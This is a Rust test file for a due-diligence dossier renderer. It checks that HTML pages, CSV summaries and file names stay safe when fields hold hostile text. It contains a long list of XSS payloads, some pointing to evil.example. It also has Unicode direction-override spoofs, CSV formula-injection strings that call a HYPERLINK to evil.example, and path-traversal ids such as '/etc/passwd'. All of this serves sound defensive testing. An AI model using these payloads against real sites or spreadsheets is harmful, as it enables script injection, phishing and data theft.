//! A case as a document, through the library's door.

#![expect(clippy::unwrap_used, reason = "what is missing fails the test")]

use crate::dossier_fixture::{clear_dossier, dossier, portfolio, run};
use diligence::dossier::{
    Dossier, IndexRow, RunSummary, file_stem, html, index_page, json, summary_csv,
};
use diligence::party::NameQuality;
use diligence::redflag::{Evidence, NotScreenedLine, Unknown};
use diligence::watchlist::Topic;
use std::collections::BTreeSet;

/// What people put into names to harm whoever reads them: markup, attributes, addresses, styles,
/// template syntax, direction overrides, controls, zero widths.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example/x>",
    "<embed src=https://evil.example/x>",
    "<form action=https://evil.example><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"autofocus onfocus=alert(1) x=\"",
    "`-alert(1)-`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://bank.example@evil.example/",
    "https://evil.example/\"onmouseover=alert(1)",
    "https://evil.example/<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "{{ 7*7 }}{% raw %}",
    "${alert(1)}",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞",
    "expression(alert(1))",
    "\"}@page{@top-left{content:url(https://evil.example)}}",
    "\\22 }body{display:none}",
    "invoice\u{202E}fdp.exe",
    "\u{2066}hidden\u{2069}",
    "\u{202A}a\u{202B}b\u{202C}c\u{202D}d",
    "\u{200E}\u{200F}\u{061C}marks",
    "pay\u{200B}pal",
    "pay\u{200D}pal\u{200C}",
    "soft\u{00AD}hyphen",
    "\u{FEFF}bom",
    "nul\0byte",
    "bell\u{7}esc\u{1B}[31mred",
    "del\u{7F}c1\u{85}\u{9B}31m",
    "tab\tand\rreturn",
    "line\u{2028}para\u{2029}",
    "tag\u{E0041}\u{E0042}",
    "filler\u{3164}\u{115F}\u{FFA0}",
    "annotation\u{FFF9}a\u{FFFA}b\u{FFFB}",
    "not a character \u{FFFE}\u{1FFFF}",
];

/// The dossier with one text in every field that holds text from outside.
pub(crate) fn filled_with(text: &str) -> Dossier {
    let mut dossier = dossier();
    let set = |field: &mut String| text.clone_into(field);
    let evidence = |rows: &mut Vec<Evidence>| {
        for row in rows {
            [&mut row.fact, &mut row.value, &mut row.source].into_iter().for_each(set);
        }
    };
    let a = &mut dossier.assessment;
    (a.engagement, a.party, a.manager) = (Some(text.into()), Some(text.into()), Some(text.into()));
    set(&mut a.caption);
    set(&mut a.rating);
    for f in &mut a.flags {
        f.party = Some(text.into());
        f.needs = vec![text.into()];
        [&mut f.code, &mut f.title, &mut f.because, &mut f.clause, &mut f.settles]
            .into_iter()
            .for_each(set);
        evidence(&mut f.evidence);
    }
    for m in &mut a.matches {
        let name = &mut m.name;
        name.quality = NameQuality::Alias;
        [&mut m.party, &mut m.role, &mut m.listing, &mut m.list, &mut m.caption]
            .into_iter()
            .chain([&mut name.query, &mut name.matched])
            .for_each(set);
        m.topics = vec![Topic::Other(text.into())];
        for f in &mut m.features {
            [&mut f.feature, &mut f.query, &mut f.candidate, &mut f.note].into_iter().for_each(set);
        }
        for t in &mut m.alignment {
            [&mut t.query, &mut t.candidate, &mut t.kind].into_iter().for_each(set);
        }
        evidence(&mut m.entry);
    }
    a.not_screened = vec![NotScreenedLine { what: text.into(), reason: text.into() }];
    a.unknown = vec![Unknown { needs: text.into(), would_settle: 1, of: 2 }; 2];
    for f in dossier.subject.iter_mut().chain(&mut dossier.engagement) {
        [&mut f.label, &mut f.value].into_iter().for_each(set);
    }
    for p in &mut dossier.involved {
        [&mut p.party, &mut p.caption, &mut p.kind, &mut p.role].into_iter().for_each(set);
        p.path = vec![text.into(); 2];
        p.not_screened = Some(text.into());
    }
    let c = &mut dossier.certificate;
    [&mut c.run_date, &mut c.engine, &mut c.input_sha256, &mut c.policy_sha256]
        .into_iter()
        .for_each(set);
    for l in &mut c.lists {
        [
            &mut l.list,
            &mut l.title,
            &mut l.published,
            &mut l.retrieved,
            &mut l.sha256,
            &mut l.state,
        ]
        .into_iter()
        .for_each(set);
    }
    dossier
}

fn portfolio_of(text: &str) -> (Vec<IndexRow>, RunSummary) {
    let dossier = filled_with(text);
    let row = IndexRow::new(&dossier.assessment, Some(text.into()));
    let certificate = dossier.certificate;
    let run = RunSummary {
        portfolio: text.into(),
        run_date: certificate.run_date,
        engine: certificate.engine,
        input_sha256: certificate.input_sha256,
        policy_sha256: certificate.policy_sha256,
        lists: certificate.lists,
        rejects: 1,
    };
    (vec![row], run)
}

/// Names of the tags and of their attributes, and the addresses of links: what a page is made of
/// apart from its text.
fn skeleton(page: &str) -> (BTreeSet<String>, Vec<String>) {
    let mut names = BTreeSet::new();
    let mut addresses = Vec::new();
    for tag in page.split('<').skip(1) {
        let Some((inside, _)) = tag.split_once('>') else { continue };
        let bare: Vec<&str> = inside.split('"').collect();
        for (i, piece) in bare.iter().enumerate() {
            if i % 2 == 0 {
                names.extend(piece.split_whitespace().map(|word| word.to_lowercase()));
            } else if bare[i - 1].trim_end().ends_with("href=") {
                addresses.push((*piece).to_owned());
            }
        }
    }
    (names, addresses)
}

fn is_shown_raw(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c,
            '\u{AD}' | '\u{61C}' | '\u{115F}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}' | '\u{3164}' | '\u{FEFF}' | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}' | '\u{FFFE}' | '\u{1FFFF}' | '\u{E0000}'..='\u{E007F}')
}

/// The page without its one style and its one script, which are ours and held by their hashes.
fn without_own_code(page: &str) -> String {
    let mut rest = page.to_owned();
    for (open, close) in [("<style>", "</style>"), ("<script>", "</script>")] {
        if let Some((before, after)) = rest.split_once(open) {
            let (_, after) = after.split_once(close).unwrap();
            rest = format!("{before}{after}");
        }
    }
    rest
}

#[test]
fn no_value_adds_markup_or_an_invisible_character_to_a_page() {
    let harmless = "Plain value";
    let (expected_dossier, _) = skeleton(&without_own_code(&html(&filled_with(harmless)).unwrap()));
    let (rows, summary) = portfolio_of(harmless);
    let (expected_index, _) = skeleton(&without_own_code(&index_page(&rows, &summary).unwrap()));
    for text in HOSTILE {
        let (rows, summary) = portfolio_of(text);
        let pages = [
            (html(&filled_with(text)).unwrap(), &expected_dossier),
            (index_page(&rows, &summary).unwrap(), &expected_index),
        ];
        for (page, expected) in pages {
            assert!(!page.chars().any(is_shown_raw), "{text:?}");
            let page = without_own_code(&page);
            assert!(!page.to_lowercase().contains("<script"), "{text:?}");
            assert!(!page.to_lowercase().contains("<style"), "{text:?}");
            let (found, addresses) = skeleton(&page);
            let added: Vec<_> = found
                .difference(expected)
                .filter(|name| !matches!(name.as_str(), "bdi" | "/bdi" | "dir=" | "lang="))
                .collect();
            assert!(added.is_empty(), "{text:?} added {added:?}");
            assert!(addresses.iter().all(|a| a.starts_with('#')), "{text:?}: {addresses:?}");
        }
    }
}

#[test]
fn an_address_of_a_list_is_a_link_that_tells_nobody_where_it_was_followed() {
    let page = html(&filled_with("https://lists.example.org/entry?a=1&b=2")).unwrap();
    assert!(page.contains(
        "<a href=\"https://lists.example.org/entry?a=1&amp;b=2\" rel=\"noopener noreferrer\">\
         https://lists.example.org/entry?a=1&amp;b=2</a>"
    ));
}

#[test]
fn a_dossier_reads_as_before() {
    insta::assert_snapshot!("dossier_html", html(&dossier()).unwrap());
    insta::assert_snapshot!("dossier_json", json(&dossier()).unwrap());
    insta::assert_snapshot!("clear_dossier_html", html(&clear_dossier()).unwrap());
}

#[test]
fn the_portfolio_reads_as_before() {
    insta::assert_snapshot!("index_html", index_page(&portfolio(20), &run()).unwrap());
    let table = String::from_utf8(summary_csv(&portfolio(20)).unwrap()).unwrap();
    insta::assert_snapshot!("summary_csv", table);
}

#[test]
fn the_same_case_gives_the_same_bytes() {
    assert_eq!(html(&dossier()).unwrap(), html(&dossier()).unwrap());
    assert_eq!(json(&dossier()).unwrap(), json(&dossier()).unwrap());
    let page = || index_page(&portfolio(40), &run()).unwrap();
    assert_eq!(page(), page());
    assert_eq!(summary_csv(&portfolio(40)).unwrap(), summary_csv(&portfolio(40)).unwrap());
}

#[test]
fn an_empty_case_is_still_a_page() {
    let mut empty = clear_dossier();
    empty.assessment.party = None;
    empty.assessment.caption.clear();
    empty.subject.clear();
    empty.involved.clear();
    let page = html(&empty).unwrap();
    assert!(page.contains("One gap remains"), "nobody was screened");
    empty.certificate.lists.clear();
    let page = html(&empty).unwrap();
    assert!(page.contains("One gap remains"), "no list was relied on");
    assert!(page.contains("No list was relied on"));
    assert!(page.contains("Nobody was screened for this subject"));
    assert!(index_page(&[], &RunSummary::default()).unwrap().contains("0 subjects"));
}

#[test]
fn a_list_or_party_not_screened_is_a_gap_even_when_the_answer_does_not_say_so() {
    let mut silent = dossier();
    silent.assessment.not_screened.clear();
    let page = html(&silent).unwrap();
    assert!(page.contains("2 gaps remain"), "the party without a name and the stale list");
    assert!(page.contains("2 not screened"), "the header says so too");
}

#[test]
fn flags_stand_gravest_first_and_conflicts_before_what_agrees() {
    let mut shuffled = dossier();
    shuffled.assessment.flags.reverse();
    shuffled.assessment.matches.reverse();
    let page = html(&shuffled).unwrap();
    let at = |text: &str| page.find(text).unwrap_or_else(|| panic!("{text} is not on the page"));
    assert!(at("OWN-01") < at("PAY-04") && at("PAY-04") < at("PRF-02"));
    assert!(at("PRF-02") < at("BEH-11") && at("BEH-11") < at("GOV-03"));
    assert!(at("Strong: very") < at("Likely: probably"));
    assert!(at("Likely: probably") < at("Possible: worth"));
    assert!(at("✕ CONFLICT") < at("one word more on the list"));
}

#[test]
fn the_portfolio_counts_every_row_and_shows_every_row() {
    let rows = portfolio(200);
    let page = index_page(&rows, &run()).unwrap();
    assert_eq!(page.matches("<tr data-v=").count(), 200);
    for outcome in diligence::redflag::Outcome::ALL {
        let expected = rows.iter().filter(|row| row.outcome == outcome).count();
        assert!(expected > 0, "{outcome:?} is in the fixture");
        assert_eq!(page.matches(&format!("data-o=\"{}\"", outcome.as_str())).count(), expected);
    }
}

#[test]
fn five_thousand_subjects_stay_below_five_megabytes() {
    let bytes = index_page(&portfolio(5_000), &run()).unwrap().len();
    assert!(bytes < 5_000_000, "{bytes} bytes");
}

#[test]
fn two_hundred_flags_stay_below_one_and_a_half_megabytes() {
    let mut large = dossier();
    let flags = large.assessment.flags.clone();
    large.assessment.flags = flags.into_iter().cycle().take(200).collect();
    let bytes = html(&large).unwrap().len();
    assert!(bytes < 1_500_000, "{bytes} bytes");
}

#[test]
fn no_cell_of_the_summary_starts_a_formula() {
    for start in ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"] {
        for before in ["", " ", "\"", "'", " \" ", "\u{FEFF}"] {
            let text = format!("{before}{start}HYPERLINK(\"https://evil.example\")");
            let (rows, _) = portfolio_of(&text);
            let bytes = summary_csv(&rows).unwrap();
            assert!(bytes.starts_with("\u{FEFF}".as_bytes()) && bytes.ends_with(b"\r\n"));
            let mut table = csv::Reader::from_reader(bytes.as_slice());
            let record = table.records().next().unwrap().unwrap();
            let held = record.iter().filter(|cell| cell.contains("HYPERLINK")).collect::<Vec<_>>();
            assert_eq!(held.len(), 10, "every text column holds it: {held:?}");
            assert!(held.iter().all(|cell| cell.starts_with('\'')), "{held:?}");
        }
    }
}

#[test]
fn an_id_that_is_not_plain_never_names_a_file() {
    let long = "a".repeat(65);
    let huge = "b".repeat(4096);
    for id in [
        "",
        ".",
        "..",
        "../../x",
        "/etc/passwd",
        "C:\\x",
        "a/b",
        "a\\b",
        "nul\0",
        "%2e%2e%2f",
        "a b",
        "a∕b",
        "é",
        ".hidden",
        "-rf",
        "trailing.",
        "a..b",
        "CON",
        "con",
        "Nul.txt",
        "com1",
        "LPT9.html",
        "aux.",
        "conin",
        &long,
        &huge,
    ] {
        let stem = file_stem(id, &mut BTreeSet::new());
        assert!(stem.starts_with("x-") && stem.len() == 18, "{id:?} became {stem:?}");
        assert!(stem.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{stem:?}");
    }
}

#[test]
fn a_plain_id_names_its_own_file() {
    let longest = "a".repeat(64);
    for id in ["E-17", "a", "0", "_x", "a.b", "P_4", "console", "com10", "comet", &longest] {
        assert_eq!(file_stem(id, &mut BTreeSet::new()), id);
    }
}

#[test]
fn names_that_differ_only_in_case_do_not_share_a_file() {
    let mut taken = BTreeSet::new();
    let stems = ["E-1", "e-1", "E-1", "e-1-2", "../x", "../x"].map(|id| file_stem(id, &mut taken));
    let distinct: BTreeSet<String> = stems.iter().map(|stem| stem.to_lowercase()).collect();
    assert_eq!(distinct.len(), stems.len(), "{stems:?}");
    assert_eq!(&stems[..4], ["E-1", "e-1-2", "E-1-3", "e-1-2-2"]);
}
